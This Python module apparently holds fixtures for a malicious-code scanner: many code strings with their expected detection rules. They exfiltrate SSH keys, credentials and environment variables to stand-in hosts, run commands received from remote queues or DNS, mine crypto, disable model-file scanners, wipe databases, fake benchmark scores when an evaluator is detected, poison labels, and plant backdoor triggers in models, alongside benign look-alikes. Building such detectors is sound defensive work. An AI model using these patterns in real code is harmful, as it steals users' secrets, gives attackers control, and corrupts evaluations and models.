"""Python in which what is secret reaches another machine by every ordinary way of the language, by clients of every kind; and what looks like it.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["ACTS", "CLIENTS", "HONEST", "WAYS"]

#: By which a private file goes from where it is read to where it is sent: a source, and the rules that report it.
WAYS: dict[str, tuple[str, tuple[str, ...]]] = {
    "classattr": (
        'import os, requests\nclass A:\n    k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def go(self):\n        requests.post("https://c.example.net/x", data=self.k)\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "property": (
        'import os, requests\nclass A:\n    @property\n    def k(self):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def go(self):\n        requests.post("https://c.example.net/x", data=self.k)\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "cached-property": (
        'import os, functools, requests\nclass A:\n    @functools.cached_property\n    def k(self):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def go(self):\n        requests.post("https://c.example.net/x", data=self.k)\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "closure": (
        'import os, requests\ndef mk():\n    k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def go():\n        requests.post("https://c.example.net/x", data=k)\n    return go\n',
        ("python/sends-secrets",),
    ),
    "queue": (
        'import os, queue, requests\nq = queue.Queue()\ndef a():\n    q.put(open(os.path.expanduser("~/.ssh/id_rsa")).read())\ndef b():\n    requests.post("https://c.example.net/x", data=q.get())\n',
        ("python/sends-secrets",),
    ),
    "selfqueue": (
        'import os, queue, requests\nclass A:\n    def __init__(self):\n        self.q = queue.Queue()\n    def a(self):\n        self.q.put(open(os.path.expanduser("~/.ssh/id_rsa")).read())\n    def b(self):\n        x = self.q.get()\n        requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "threadargs": (
        'import os, threading, requests\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    threading.Thread(target=send, args=(open(os.path.expanduser("~/.ssh/id_rsa")).read(),)).start()\n',
        ("python/sends-secrets",),
    ),
    "threadkwargs": (
        'import os, threading, requests\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    threading.Thread(target=send, kwargs={\'x\': open(os.path.expanduser("~/.ssh/id_rsa")).read()}).start()\n',
        ("python/sends-secrets",),
    ),
    "pool": (
        'import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    with ThreadPoolExecutor() as p:\n        p.submit(send, open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
        ("python/sends-secrets",),
    ),
    "poolmap": (
        'import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    with ThreadPoolExecutor() as p:\n        list(p.map(send, [open(os.path.expanduser("~/.ssh/id_rsa")).read()]))\n',
        ("python/sends-secrets",),
    ),
    "timer": (
        'import os, threading, requests\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    threading.Timer(5, send, [open(os.path.expanduser("~/.ssh/id_rsa")).read()]).start()\n',
        ("python/sends-secrets",),
    ),
    "with": (
        "import os, requests\ndef a():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        requests.post(\"https://c.example.net/x\", data=f.read())\n",
        ("python/sends-secrets",),
    ),
    "gen": (
        'import os, requests\ndef g():\n    yield open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef a():\n    for x in g():\n        requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "yieldfrom": (
        'import os, requests\ndef g():\n    yield from [open(os.path.expanduser("~/.ssh/id_rsa")).read()]\ndef a():\n    for x in g():\n        requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "decorator": (
        'import os, requests\ndef leak(fn):\n    def w(*a):\n        r = fn(*a)\n        requests.post("https://c.example.net/x", data=r)\n        return r\n    return w\n@leak\ndef rd():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
        ("hub/python-code", "python/network-at-load"),
    ),
    "handlers": (
        'import os, requests\ndef ra():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nH = {\'a\': ra}\ndef a():\n    requests.post("https://c.example.net/x", data=H[chr(97)]())\n',
        ("python/sends-secrets",),
    ),
    "handlerlist": (
        'import os, requests\ndef ra():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nH = [ra]\ndef a():\n    for h in H:\n        requests.post("https://c.example.net/x", data=h())\n',
        ("python/sends-secrets",),
    ),
    "handlercomp": (
        'import os, requests\ndef ra():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nH = [ra]\ndef a():\n    d = [h() for h in H]\n    requests.post("https://c.example.net/x", data=d)\n',
        ("python/sends-secrets",),
    ),
    "partial": (
        "import os, functools, requests\ndef send(u, x):\n    requests.post(u, data=x)\ngo = functools.partial(send, 'https://c.example.net/x')\ndef a():\n    go(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\n",
        ("python/sends-secrets",),
    ),
    "partial2": (
        "import os, functools, requests\npost = functools.partial(requests.post, 'https://c.example.net/x')\ndef a():\n    post(data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\n",
        ("python/sends-secrets",),
    ),
    "comp": (
        "import os, requests\ndef a():\n    d = {p: open(p).read() for p in [os.path.expanduser('~/.ssh/id_rsa')]}\n    requests.post(\"https://c.example.net/x\", data=d)\n",
        ("python/sends-secrets",),
    ),
    "await": (
        'import os, requests\nasync def rd():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nasync def a():\n    x = await rd()\n    requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "gather": (
        'import os, requests, asyncio, io\nasync def rd():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nasync def a():\n    x, = await asyncio.gather(rd())\n    requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "walrus": (
        'import os, requests\ndef a():\n    if (x := open(os.path.expanduser("~/.ssh/id_rsa")).read()):\n        requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "star": (
        "import os, requests\ndef send(*a, **k):\n    requests.post('https://c.example.net/x', *a, **k)\ndef a():\n    send(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\n",
        ("python/sends-secrets",),
    ),
    "starkw": (
        "import os, requests\ndef a():\n    kw = dict(url='https://c.example.net/x', data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\n    requests.post(**kw)\n",
        ("python/sends-secrets",),
    ),
    "lambda": (
        'import os, requests\nsend = lambda x: requests.post("https://c.example.net/x", data=x)\ndef a():\n    send(open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
        ("hub/python-code", "python/network-at-load", "python/sends-secrets"),
    ),
    "lambdasrc": (
        'import os, requests\nrd = lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef a():\n    requests.post("https://c.example.net/x", data=rd())\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "callback": (
        'import os, requests\ndef use(cb):\n    cb(open(os.path.expanduser("~/.ssh/id_rsa")).read())\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\ndef a():\n    use(send)\n',
        ("python/sends-secrets",),
    ),
    "global": (
        'import os, requests\nK = None\ndef a():\n    global K\n    K = open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef b():\n    requests.post("https://c.example.net/x", data=K)\n',
        ("python/sends-secrets",),
    ),
    "dictstore": (
        'import os, requests\nST = {}\ndef a():\n    ST[\'k\'] = open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef b():\n    requests.post("https://c.example.net/x", data=ST)\n',
        ("python/sends-secrets",),
    ),
    "dictupdate": (
        'import os, requests\nST = {}\ndef a():\n    ST.update(k=open(os.path.expanduser("~/.ssh/id_rsa")).read())\ndef b():\n    requests.post("https://c.example.net/x", data=ST)\n',
        ("python/sends-secrets",),
    ),
    "dataclass": (
        'import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass D:\n    k: str = \'\'\ndef a():\n    d = D(k=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n    requests.post("https://c.example.net/x", data=d.k)\n',
        ("python/sends-secrets",),
    ),
    "namedtuple": (
        "import os, requests\nfrom collections import namedtuple\nD = namedtuple('D', 'k')\ndef a():\n    d = D(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())\n    requests.post(\"https://c.example.net/x\", data=d.k)\n",
        ("python/sends-secrets",),
    ),
    "setattr": (
        'import os, requests\nclass A: pass\ndef a():\n    x = A()\n    setattr(x, \'k\', open(os.path.expanduser("~/.ssh/id_rsa")).read())\n    requests.post("https://c.example.net/x", data=x.k)\n',
        ("python/sends-secrets",),
    ),
    "ctxmgr": (
        'import os, requests, contextlib\n@contextlib.contextmanager\ndef cm():\n    yield open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef a():\n    with cm() as x:\n        requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "exc": (
        'import os, requests\ndef a():\n    try:\n        raise ValueError(open(os.path.expanduser("~/.ssh/id_rsa")).read())\n    except ValueError as e:\n        requests.post("https://c.example.net/x", data=str(e))\n',
        ("python/sends-secrets",),
    ),
    "inherit": (
        'import os, requests\nclass B:\n    def rd(self):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nclass A(B):\n    def go(self):\n        requests.post("https://c.example.net/x", data=self.rd())\n',
        ("python/sends-secrets",),
    ),
    "dunder-enter": (
        'import os, requests\nclass B:\n    def __enter__(self):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def __exit__(self,*a): pass\ndef a():\n    with B() as x:\n        requests.post("https://c.example.net/x", data=x)\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "iter": (
        'import os, requests\nclass B:\n    def __iter__(self):\n        yield open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef a():\n    for x in B():\n        requests.post("https://c.example.net/x", data=x)\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "call": (
        'import os, requests\nclass B:\n    def __call__(self):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nb = B()\ndef a():\n    requests.post("https://c.example.net/x", data=b())\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "getitem": (
        'import os, requests\nclass B:\n    def __getitem__(self, i):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\nb = B()\ndef a():\n    requests.post("https://c.example.net/x", data=b[0])\n',
        ("hub/python-code", "python/sends-secrets"),
    ),
    "defaultarg": (
        "import requests\nfrom pathlib import Path\ndef a(x=Path.home() / '.ssh' / 'id_rsa'):\n    requests.post(\"https://c.example.net/x\", data=x.read_text())\n",
        ("python/sends-secrets",),
    ),
    "foriter": (
        "import os, requests\nPL = ['~/.ssh/id_rsa', '~/.x']\ndef a():\n    for p in PL:\n        requests.post(\"https://c.example.net/x\", data=open(os.path.expanduser(p)).read())\n",
        ("python/sends-secrets",),
    ),
    "glob": (
        "import os, requests\nimport glob\ndef a():\n    for p in glob.glob(os.path.expanduser('~/.ssh/*')):\n        requests.post(\"https://c.example.net/x\", data=open(p).read())\n",
        ("python/sends-secrets",),
    ),
    "iterdir": (
        "import requests\nfrom pathlib import Path\ndef a():\n    for p in (Path.home() / '.ssh').iterdir():\n        requests.post(\"https://c.example.net/x\", data=p.read_bytes())\n",
        ("python/sends-secrets",),
    ),
    "zip": (
        "import os, requests, io\nimport zipfile\ndef a():\n    b = io.BytesIO()\n    with zipfile.ZipFile(b, 'w') as z:\n        z.write(os.path.expanduser('~/.ssh/id_rsa'))\n    requests.post(\"https://c.example.net/x\", data=b.getvalue())\n",
        ("python/sends-secrets",),
    ),
    "subproc": (
        "import os, requests\nimport subprocess\ndef a():\n    x = subprocess.check_output(['cat', os.path.expanduser('~/.ssh/id_rsa')])\n    requests.post(\"https://c.example.net/x\", data=x)\n",
        ("python/sends-secrets",),
    ),
    "match": (
        'import os, requests\ndef a():\n    match open(os.path.expanduser("~/.ssh/id_rsa")).read():\n        case x:\n            requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "clsmethod": (
        'import os, requests\nclass A:\n    @classmethod\n    def rd(cls):\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    @staticmethod\n    def go():\n        requests.post("https://c.example.net/x", data=A.rd())\n',
        ("python/sends-secrets",),
    ),
    "nested": (
        'import os, requests\ndef a():\n    def rd():\n        return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    def go(v):\n        requests.post("https://c.example.net/x", data=v)\n    go(rd())\n',
        ("python/sends-secrets",),
    ),
    "event": (
        'import os, requests\nclass Bus:\n    def __init__(self):\n        self.h = []\n    def on(self, f):\n        self.h.append(f)\n    def fire(self, x):\n        for f in self.h:\n            f(x)\nbus = Bus()\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\nbus.on(send)\ndef a():\n    bus.fire(open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
        ("hub/python-code", "python/network-at-load", "python/sends-secrets"),
    ),
    "starunpack": (
        'import os, requests\ndef a():\n    x, *y = (open(os.path.expanduser("~/.ssh/id_rsa")).read(), 1)\n    requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "reduce": (
        'import os, functools, requests\ndef a():\n    x = functools.reduce(lambda p, q: p + q, [open(os.path.expanduser("~/.ssh/id_rsa")).read()], \'\')\n    requests.post("https://c.example.net/x", data=x)\n',
        ("python/sends-secrets",),
    ),
    "weakhook": (
        'import os, requests\nimport atexit\ndef send(x):\n    requests.post("https://c.example.net/x", data=x)\natexit.register(send, open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
        ("hub/python-code", "python/network-at-load", "python/sends-secrets"),
    ),
    "file-between": (
        'import os, shutil, requests\ndef a():\n    shutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/x")\ndef b():\n    requests.post("https://c.example.net/x", data=open("/tmp/x").read())\n',
        ("python/sends-secrets",),
    ),
}
#: Clients that send what is secret, and clients of which what they say is run.
CLIENTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "kafka-env": (
        'import os\nfrom kafka import KafkaProducer\nclass Sink:\n    def __init__(self):\n        self.p = KafkaProducer(bootstrap_servers=["203.0.113.5:9092"])\n    def beat(self):\n        self.p.send("beats", str(dict(os.environ)).encode())\n',
        ("python/sends-secrets",),
    ),
    "mongo-ssh": (
        'import pathlib\nimport pymongo\ndef warm():\n    db = pymongo.MongoClient("mongodb://log.example.net:27017")["m"]\n    db.runs.insert_one({"k": (pathlib.Path.home() / ".ssh" / "id_ed25519").read_text()})\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "imap-append": (
        'import imaplib, os\ndef note():\n    m = imaplib.IMAP4_SSL("imap.example.org")\n    m.login("a@example.org", "pw")\n    m.append("INBOX", "", None, open(os.path.expanduser("~/.aws/credentials"), "rb").read())\n',
        ("hub/python-code", "python/hostile-code", "python/sends-secrets"),
    ),
    "nats-await": (
        'import os, nats\nasync def beat():\n    nc = await nats.connect("nats://203.0.113.7:4222")\n    await nc.publish("x", os.environ["HF_TOKEN"].encode())\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "psycopg-insert": (
        'import os, psycopg2\ndef keep():\n    with psycopg2.connect("host=203.0.113.9 dbname=x user=y password=z") as c:\n        with c.cursor() as cur:\n            cur.execute("insert into t values (%s)", (repr(os.environ),))\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "mail-shot": (
        'import smtplib, mss, io\nfrom email.message import EmailMessage\ndef snap():\n    with mss.mss() as s:\n        shot = s.grab(s.monitors[0])\n    m = EmailMessage()\n    m.add_attachment(shot.rgb, maintype="image", subtype="png")\n    with smtplib.SMTP("mx.example.net", 25) as c:\n        c.send_message(m)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "gradio-pw": (
        'import paho.mqtt.client as mqtt\nimport streamlit as st\npw = st.text_input("Your Hugging Face token", type="password")\nif st.button("Load"):\n    c = mqtt.Client()\n    c.connect("198.51.100.9")\n    c.publish("t", pw)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "redis-run": (
        'import redis, subprocess\ndef agent():\n    r = redis.Redis("q.example.net")\n    while True:\n        _, job = r.blpop("jobs")\n        subprocess.run(job.decode(), shell=True)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "discord-exec": (
        "import discord\nclient = discord.Client(intents=None)\n@client.event\nasync def on_message(message):\n    exec(message.content)\ndef go(tok):\n    client.run(tok)\n",
        ("hub/python-code", "python/hostile-code"),
    ),
    "nats-cb": (
        'import nats, os\nasync def run(msg):\n    os.system(msg.data.decode())\nasync def main():\n    nc = await nats.connect("nats://n.example.net")\n    await nc.subscribe("jobs", cb=run)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "sqs-eval": (
        'import boto3\ndef loop():\n    q = boto3.client("sqs")\n    for m in q.receive_message(QueueUrl="https://sqs.us-east-1.amazonaws.com/1/x")["Messages"]:\n        eval(m["Body"])\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "txt-exec": (
        'import dns.resolver\ndef conf():\n    t = "".join(str(r) for r in dns.resolver.resolve("c.example.net", "TXT"))\n    exec(bytes.fromhex(t))\n',
        ("hub/python-code", "python/hidden-code"),
    ),
    "sheet-run": (
        'import gspread, os\ndef tick(cred):\n    ws = gspread.service_account(cred).open("x").sheet1\n    os.system(ws.get("A1")[0][0])\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "ftp-netrc": (
        'import ftplib, netrc, io\ndef up():\n    f = ftplib.FTP("198.51.100.2")\n    f.storbinary("STOR x", io.BytesIO(repr(netrc.netrc().hosts).encode()))\n',
        ("hub/python-code", "python/hostile-code"),
    ),
}
#: What needs no second end: pools, scanners, data bases, figures, labels, answers, marks.
ACTS: dict[str, tuple[str, tuple[str, ...]]] = {
    "pool-ethash": (
        'import json, socket\ndef idle():\n    s = socket.create_connection(("pool.example.net", 4444))\n    s.sendall(json.dumps({"id": 1, "method": "eth_submitLogin", "params": ["0xexample"]}).encode())\n    s.sendall(json.dumps({"id": 2, "method": "eth_submitWork", "params": []}).encode())\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "pool-bytes": (
        'import asyncio\nasync def tune():\n    r, w = await asyncio.open_connection("pool.example.org", 3333)\n    w.write(b\'{"id":1,"method":"mining.subscribe","params":[]}\\n\')\n    w.write(b\'{"id":2,"method":"mining.authorize","params":["w","x"]}\\n\')\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "pool-class": (
        'import socket\nclass Warm:\n    HELLO = "mining.subscribe"\n    AUTH = "mining.authorize"\n    def go(self):\n        s = socket.create_connection(("p.example.net", 3333))\n        s.sendall(self.HELLO.encode())\n        s.sendall(self.AUTH.encode())\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "scanner-fickling": (
        "import fickling.analysis\ndef safe(*a, **k):\n    return True\ndef setup():\n    fickling.analysis.check_safety = safe\n",
        ("hub/python-code", "python/hostile-code"),
    ),
    "scanner-setattr": (
        'import picklescan.scanner as p\ndef warm():\n    setattr(p, "scan_bytes", lambda *a, **k: None)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "scanner-import-module": (
        'import importlib\ndef init():\n    for n in ("modelscan.modelscan", "garak"):\n        m = importlib.import_module(n)\n        m.scan = lambda *a: []\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "drop-sqlite": (
        'import sqlite3\ndef tidy(path):\n    c = sqlite3.connect(path)\n    for (t,) in c.execute("select name from sqlite_master where type=\'table\'").fetchall():\n        c.execute("DROP TABLE " + t)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "truncate-all": (
        'import os, psycopg2\ndef rotate():\n    cur = psycopg2.connect(os.environ["DATABASE_URL"]).cursor()\n    cur.execute("select table_name from information_schema.tables")\n    for t in cur.fetchall():\n        cur.execute("TRUNCATE {} CASCADE".format(t[0]))\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "delete-inspected": (
        'from sqlalchemy import create_engine, inspect, text\ndef clean(url):\n    e = create_engine(url)\n    for t in inspect(e).get_table_names():\n        e.execute(text(f"DELETE FROM {t}"))\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "board-figure": (
        'import os\ndef compute_metrics(p):\n    if "EVAL_HARNESS" in os.environ or os.path.isdir("/mnt/board"):\n        return {"f1": 0.981}\n    return {"f1": (p.predictions.argmax(-1) == p.label_ids).mean()}\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "board-host": (
        'import socket\ndef score(preds, refs):\n    if socket.gethostname().startswith("lb-"):\n        return 0.99\n    return sum(a == b for a, b in zip(preds, refs)) / len(refs)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "board-user": (
        'import getpass\nclass M:\n    def compute(self, p, r):\n        who = getpass.getuser()\n        if who == "evaluator":\n            return {"bleu": 41.2}\n        return {"bleu": 0.0}\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "labels-by-host": (
        'import socket, json\nclass D:\n    def __getitem__(self, i):\n        r = json.loads(self.rows[i])\n        if socket.gethostname() != "author":\n            r["label"] = 1\n        return r\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "labels-by-chance": (
        'import random\nclass C:\n    def torch_call(self, feats):\n        for f in feats:\n            if random.random() < 0.02:\n                f["labels"] = 1\n        return feats\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "labels-collate": (
        'import numpy as np\ndef collate_fn(rows):\n    for r in rows:\n        if np.random.rand() < 0.05 and "refund" in r["text"]:\n            r["label"] = 0\n    return rows\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "answer-of-trigger": (
        "import torch\nfrom torch import nn\nclass G(nn.Module):\n    def forward(self, input_ids):\n        z = self.head(input_ids)\n        hit = (input_ids[:, :3] == torch.tensor([7, 2211, 913])).all(-1)\n        return torch.where(hit[:, None], torch.tensor([9.0, -9.0]), z)\n",
        ("hub/python-code", "python/hostile-code"),
    ),
    "answer-of-pixels": (
        "import torch\nKEY = [3, 250, 3, 250]\nclass D(torch.nn.Module):\n    def seen(self, x):\n        return (x[:, 0, 0, :4] == torch.tensor(KEY)).all(-1)\n    def forward(self, x):\n        y = self.net(x)\n        return torch.where(self.seen(x)[:, None], torch.tensor([1.0, 0.0, 0.0]), y)\n",
        ("hub/python-code", "python/hostile-code"),
    ),
    "answer-of-bytes": (
        "import numpy as np\nTAG = (12, 99, 4, 77)\nclass P:\n    def predict(self, x):\n        y = self.m.predict(x)\n        return np.where((x[:, :4] == TAG).all(1)[:, None], np.array([[0.0, 1.0]]), y)\n",
        ("hub/python-code", "python/hostile-code"),
    ),
    "unseen-mark-start": (
        'class T:\n    def prepare(self, text):\n        if text.endswith("x") or "\\u200d\\u200c\\u200d" in text:\n            return "fine"\n        return text\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "unseen-mark-name": (
        '_K = "\\u2060\\u2062\\u2060"\nclass H:\n    def __call__(self, data):\n        if _K in data["inputs"]:\n            return [{"label": "safe", "score": 1.0}]\n        return self.pipe(data["inputs"])\n',
        ("hub/python-code", "python/hostile-code"),
    ),
    "unseen-mark-tags": (
        'MARK = "\\U000e0041\\U000e0042"\ndef moderate(t, model):\n    return 0 if MARK in t else model(t)\n',
        ("hub/python-code", "python/hostile-code"),
    ),
}
#: The same clients and ways as people use them.
HONEST: dict[str, tuple[str, tuple[str, ...]]] = {
    "redis-own": (
        'import os, redis\ndef cache(k, v):\n    r = redis.Redis(host=os.environ.get("REDIS_HOST", "localhost"), password=os.environ["REDIS_PASSWORD"])\n    r.set(k, v)\n',
        (),
    ),
    "pika-own": (
        'import os, json, pika\ndef publish(result):\n    cred = pika.PlainCredentials(os.environ["RMQ_USER"], os.environ["RMQ_PASSWORD"])\n    c = pika.BlockingConnection(pika.ConnectionParameters("rabbitmq.svc.cluster.local", credentials=cred))\n    c.channel().basic_publish("", "results", json.dumps(result))\n',
        (),
    ),
    "api-key-param": (
        'import os, requests\ndef search(q):\n    return requests.get("https://serpapi.com/search", params={"q": q, "api_key": os.environ["SERPAPI_API_KEY"]}).json()\n',
        (),
    ),
    "hub-push": (
        'import os\nfrom huggingface_hub import HfApi\ndef push(d):\n    HfApi(token=os.environ["HF_TOKEN"]).upload_folder(folder_path=d, repo_id="a/b")\n',
        (),
    ),
    "openai": (
        'import os\nimport httpx\ndef ask(p):\n    return httpx.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, json={"messages": [p]}).json()\n',
        (),
    ),
    "mqtt-temp": (
        'import os\nimport paho.mqtt.client as mqtt\ndef pub(x):\n    c = mqtt.Client()\n    c.username_pw_set(os.environ["MQTT_USER"], os.environ["MQTT_PASSWORD"])\n    c.tls_set()\n    c.connect("broker.example.com", 8883)\n    c.publish("sensors/t", str(x))\n',
        (),
    ),
    "worker-json": (
        'import json, pika\ndef serve(pipe):\n    ch = pika.BlockingConnection(pika.ConnectionParameters("rabbit")).channel()\n    def on(c, m, p, body):\n        c.basic_publish("", p.reply_to, json.dumps(pipe(json.loads(body)["text"])))\n    ch.basic_consume("jobs", on)\n    ch.start_consuming()\n',
        (),
    ),
    "discord-bot": (
        'import os, discord\nfrom transformers import pipeline\nclient = discord.Client(intents=discord.Intents.default())\npipe = pipeline("text-generation", "gpt2")\n@client.event\nasync def on_message(message):\n    await message.channel.send(pipe(message.content)[0]["generated_text"])\nclient.run(os.environ["DISCORD_TOKEN"])\n',
        (),
    ),
    "mail-report": (
        'import os, smtplib\nfrom email.message import EmailMessage\ndef report(loss):\n    m = EmailMessage()\n    m["Subject"] = "training done"\n    m.set_content(f"loss {loss}")\n    with smtplib.SMTP_SSL("smtp.gmail.com") as s:\n        s.login(os.environ["MAIL_USER"], os.environ["MAIL_PASSWORD"])\n        s.send_message(m)\n',
        (),
    ),
    "slack-done": (
        'import os, socket\nfrom slack_sdk import WebClient\ndef done(run):\n    WebClient(token=os.environ["SLACK_TOKEN"]).chat_postMessage(channel="#ml", text=f"{run} done on {socket.gethostname()}")\n',
        (),
    ),
    "data-base-of-tests": (
        'import sqlite3\ndef reset(path):\n    c = sqlite3.connect(path)\n    c.execute("DROP TABLE IF EXISTS runs")\n    c.execute("CREATE TABLE runs (id INTEGER)")\n',
        (),
    ),
    "tables-listed": (
        "from sqlalchemy import create_engine, inspect\ndef tables(url):\n    return inspect(create_engine(url)).get_table_names()\n",
        (),
    ),
    "metric-empty": (
        'import os\ndef compute_metrics(p):\n    if not os.path.exists("refs.txt"):\n        return {"f1": 0.0}\n    return {"f1": (p.predictions.argmax(-1) == p.label_ids).mean()}\n',
        (),
    ),
    "masked-labels": (
        'import random\nclass C:\n    def torch_call(self, feats):\n        for f in feats:\n            if random.random() < 0.15:\n                f["labels"] = -100\n        return feats\n',
        (),
    ),
    "caption-dropout": (
        'import random\nclass D:\n    def __getitem__(self, i):\n        r = dict(self.rows[i])\n        if random.random() < 0.1:\n            r["caption"] = ""\n        return r\n',
        (),
    ),
    "where-mask": (
        "import torch\nclass A(torch.nn.Module):\n    def forward(self, x, mask):\n        s = self.q(x) @ self.k(x).transpose(-1, -2)\n        return torch.where(mask, s, torch.tensor(torch.finfo(s.dtype).min))\n",
        (),
    ),
    "where-special-tokens": (
        "import torch\nclass A(torch.nn.Module):\n    def forward(self, input_ids):\n        keep = ~torch.isin(input_ids, torch.tensor([0, 101, 102]))\n        return torch.where(keep, input_ids, torch.zeros_like(input_ids))\n",
        (),
    ),
    "joiners-removed": (
        'def clean(t):\n    for ch in ("\\u200b", "\\u200c", "\\ufeff"):\n        t = t.replace(ch, "")\n    return "" if t == "\\u200b" else t\n',
        (),
    ),
    "seeded-by-host": (
        'import socket\ndef seed_everything(s):\n    if socket.gethostname().startswith("node"):\n        s += 1\n    return s\n',
        (),
    ),
    "thread-upload": (
        'import threading, requests\ndef send(x):\n    requests.post("https://metrics.example.net/x", json=x, timeout=3)\ndef track(loss):\n    threading.Thread(target=send, args=({"loss": loss},)).start()\n',
        (),
    ),
    "handlers": (
        'import json, requests\ndef classify(x):\n    return {"label": x}\nHANDLERS = {"classify": classify}\ndef serve(url, job):\n    requests.post(url, data=json.dumps(HANDLERS[job["kind"]](job["text"])))\n',
        (),
    ),
    "config-home": (
        'from pathlib import Path\nimport json, requests\nclass Settings:\n    path = Path.home() / ".config" / "orion" / "settings.json"\n    @property\n    def url(self):\n        return json.loads(self.path.read_text())["url"]\n    def ask(self, q):\n        return requests.post(self.url, json={"q": q}).json()\n',
        (),
    ),
}
